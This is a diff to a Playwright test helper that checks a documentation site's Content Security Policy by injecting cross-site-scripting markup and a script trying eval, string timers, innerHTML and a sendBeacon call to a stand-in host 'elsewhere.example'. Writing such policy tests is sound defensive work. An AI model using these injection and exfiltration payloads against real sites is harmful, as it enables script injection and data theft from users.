@@ -1,16 +1,16 @@
 import type { Page } from '@playwright/test';
 
-/** A site that a page must have nothing to do with. */
+/** A site that no page may contact. */
 export const ELSEWHERE = 'https://elsewhere.example';
 
-/** Markup that a hole in a page would let in; what runs marks itself in `window.ran`. */
+/** Markup that an attacker might get into a page. What runs sets `window.ran`. */
 const MARKUP = `
 <base href="${ELSEWHERE}/">
 <script>window.ran = ['inline script']</script>
 <script src="${ELSEWHERE}/script.js"></script>
-<style>#canary { position: fixed }</style>
+<style>#payload { position: fixed }</style>
 <link rel="stylesheet" href="${ELSEWHERE}/style.css">
-<p id="canary" style="color: rgb(1, 2, 3)">canary</p>
+<p id="payload" style="color: rgb(1, 2, 3)">payload</p>
 <img src="/missing.png" onerror="window.ran = ['inline handler']" alt="">
 <img src="${ELSEWHERE}/picture.png" alt="">
 <iframe src="${ELSEWHERE}/frame"></iframe>
@@ -18,11 +18,11 @@ const MARKUP = `
 <a id="script-link" href="javascript:window.ran = ['javascript: link']">link</a>
 <form id="form" action="${ELSEWHERE}/form"><input name="secret" value="1"></form>`;
 
-/** It comes last, so that the site's own scripts have been there before. */
-const SCRIPT = '<script src="/assets/js/canary.js"></script>';
+/** Comes last, after the site's own scripts. */
+const SCRIPT = '<script src="/assets/js/payload.js"></script>';
 
 /**
- * What an attacker's words inside a script of the site could try. It stands in a served file, because scripts that a
+ * What an attacker's text inside one of the site's scripts could try. It is served as a file, because scripts that a
  * test runs by `page.evaluate` are exempt from the policy.
  */
 function tryEverything(elsewhere: string): void {
@@ -30,7 +30,7 @@ function tryEverything(elsewhere: string): void {
     // biome-ignore lint/security/noGlobalEval: this is what must be blocked
     eval: () => eval('1'),
     'new Function': () => new Function('return 1')(),
-    'timer with a text': () => setTimeout('window.ran = ["timer"]' as unknown as () => void),
+    'timer with text': () => setTimeout('window.ran = ["timer"]' as unknown as () => void),
     innerHTML: () => {
       document.body.innerHTML = '<p>gone</p>';
     },
@@ -66,14 +66,14 @@ function tryEverything(elsewhere: string): void {
   navigator.sendBeacon(`${elsewhere}/beacon`, 'x');
 }
 
-/** Serves a page of the site with the canaries in it. @returns the requests that reached another site */
-export async function serveCanaries(page: Page, route: string): Promise<string[]> {
+/** Serves a page of the site with the payloads in it. @returns the requests that reached another site */
+export async function servePayloads(page: Page, route: string): Promise<string[]> {
   const reached: string[] = [];
   await page.context().route(`${ELSEWHERE}/**`, async (request) => {
     reached.push(request.request().url());
     await request.fulfill({ body: 'window.ran = ["elsewhere"]', contentType: 'text/javascript' });
   });
-  await page.route('**/assets/js/canary.js', (request) =>
+  await page.route('**/assets/js/payload.js', (request) =>
     request.fulfill({
       contentType: 'text/javascript',
       body: `(${tryEverything.toString()})(${JSON.stringify(ELSEWHERE)})`,
@@ -81,8 +81,8 @@ export async function serveCanaries(page: Page, route: string): Promise<string[]
   );
   await page.route(`**${route}`, async (request) => {
     const response = await request.fetch();
-    const page = await response.text();
-    const body = page
+    const html = await response.text();
+    const body = html
       .replace('<div id=__docusaurus>', `${MARKUP}<div id=__docusaurus>`)
       .replace('</body>', `${SCRIPT}</body>`);
     await request.fulfill({ response, body });
